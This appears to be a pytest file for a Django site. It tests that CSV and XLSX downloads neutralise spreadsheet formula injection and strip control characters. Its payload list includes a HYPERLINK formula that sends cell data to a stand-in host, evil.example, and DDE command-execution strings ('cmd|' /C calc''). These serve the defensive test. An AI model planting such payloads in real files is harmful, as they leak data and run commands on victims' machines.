"""Finding 6: CSV formula injection. Text that a spreadsheet would run as a formula (search terms,
imported or typed names starting with =, +, -, @, tab or CR) is written as plain text in every
CSV download; every CSV is UTF-8 with a byte order mark. Also finding 11's export half: control
characters (NUL) never reach a download, so one bad name cannot break the XLSX for everyone."""

import datetime

import pytest
import time_machine
from django.contrib.auth.models import Group

from home.security.exports import csv_text, safe_csv_cell
from search.models import SearchTermWeek
from tests.factories import TZ, InnovationBasePageFactory, build_bases
from tests.spreadsheets import csv_rows, xlsx_rows

NOW = datetime.datetime(2024, 9, 1, 10, 0, tzinfo=TZ)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response):
    return csv_rows(response)


@pytest.fixture
def editor(client, django_user_model, site_tree):
    user = django_user_model.objects.create_user("city-editor", password="x")
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    return user


def assert_neutralised(cells):
    for payload in PAYLOADS:
        assert payload not in cells
        assert "'" + payload in cells


def test_search_terms_download_neutralises_formulas(client, editor):
    for payload in PAYLOADS:
        SearchTermWeek.objects.create(week=datetime.date(2024, 8, 26), term=payload, searches=3)
    rows = rows_of(client.get("/admin/reports/search-terms/", {"export": "csv"}))
    terms = [row[1] for row in rows[1:]]
    assert_neutralised(terms)


def test_bases_report_neutralises_imported_names(client, editor, site_tree):
    home, _, _ = site_tree
    index, _ = build_bases(home)
    for number, payload in enumerate(PAYLOADS):
        InnovationBasePageFactory(
            parent=index, title=payload, slug=f"payload-{number}", term=("2020-01-01", "2024-12-31")
        )
    with time_machine.travel(NOW, tick=False):
        rows = rows_of(client.get("/admin/bases/report/?export=csv"))
    assert_neutralised([row[1] for row in rows[1:]])


def test_control_characters_never_reach_a_download(client, editor, site_tree):
    home, _, _ = site_tree
    index, _ = build_bases(home)
    # (PostgreSQL cannot store NUL at all; imports strip it, test_import_limits.py. Other control
    # characters can be stored, and openpyxl refuses them as it refuses NUL.)
    InnovationBasePageFactory(parent=index, title="坏\x07名\x1b字", term=("2020-01-01", "2024-12-31"))
    with time_machine.travel(NOW, tick=False):
        rows = rows_of(client.get("/admin/bases/report/?export=csv"))
        xlsx = client.get("/admin/bases/report/?export=xlsx")
    assert "坏名字" in [row[1] for row in rows[1:]]
    assert xlsx.status_code == 200
    titles = [row[1] for row in xlsx_rows(xlsx)]
    assert "坏名字" in titles


TEMPLATES = ["/admin/bases/import/template.csv", "/admin/practice-sites/import/template.csv"]


@pytest.mark.parametrize("url", TEMPLATES)
def test_import_templates_are_utf8_with_a_byte_order_mark(client, editor, site_tree, url):
    build_bases(site_tree[0])  # gives the editors the bases' permissions
    response = client.get(url)
    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())


def test_the_helper_leaves_ordinary_text_and_numbers_alone():
    assert safe_csv_cell("江北区妇女儿童活动中心") == "江北区妇女儿童活动中心"
    assert safe_csv_cell("023-00000000") == "023-00000000"
    assert safe_csv_cell(-5) == -5
    assert safe_csv_cell("=1+1") == "'=1+1"
    assert csv_text([["a", "=b"]]) == "\ufeffa,'=b\r\n"
